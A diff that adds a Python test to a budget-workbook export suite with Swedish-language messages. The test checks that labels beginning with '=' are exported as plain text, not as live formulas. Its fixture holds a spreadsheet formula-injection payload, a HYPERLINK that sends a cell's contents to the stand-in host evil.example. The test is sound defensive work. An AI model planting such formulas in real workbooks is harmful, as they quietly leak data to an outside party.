@@ -629,3 +629,40 @@ def test_workbook_without_the_template_gives_no_budget_and_says_what_is_missing(
         "Arbetsboken ser inte ut som budgetmallen: ingen rad med kolumnrubriken "
         "”Alla insatsägare” hittades. Använd mallen ”Budget - detaljerad” från ansökan."
     ]
+
+
+def test_text_that_looks_like_a_formula_is_written_as_text() -> None:
+    """An owner's label or owner name starting with "=" must not become a live formula in the
+    workbook the office opens; it is text, and it comes back exactly as typed."""
+    evil = '=HYPERLINK("http://evil.example/?d="&B3,"Öppna")'
+    budget = Budget(
+        owners=["=1+1", "Region Uppsala"],
+        lines=[
+            BudgetLine(
+                block=A,
+                category=CostCategory.SALARY,
+                label=evil,
+                fte_percent=100,
+                amounts=[100_000, 0],
+            ),
+        ],
+    )
+    workbook = load_workbook(io.BytesIO(export_budget(budget, "Insatsen")))
+    texts = {
+        cell.value: cell.data_type
+        for sheet in workbook.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.value in (evil, "=1+1")
+    }
+    assert texts == {evil: "s", "=1+1": "s"}
+    formulas = [
+        cell.value
+        for sheet in workbook.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.data_type == "f"
+    ]
+    assert formulas and all(not f.startswith("=HYPERLINK") and f != "=1+1" for f in formulas)
+    back, _ = imported(export_budget(budget, "Insatsen"))
+    assert back.lines[0].label == evil and back.owners[0] == "=1+1"
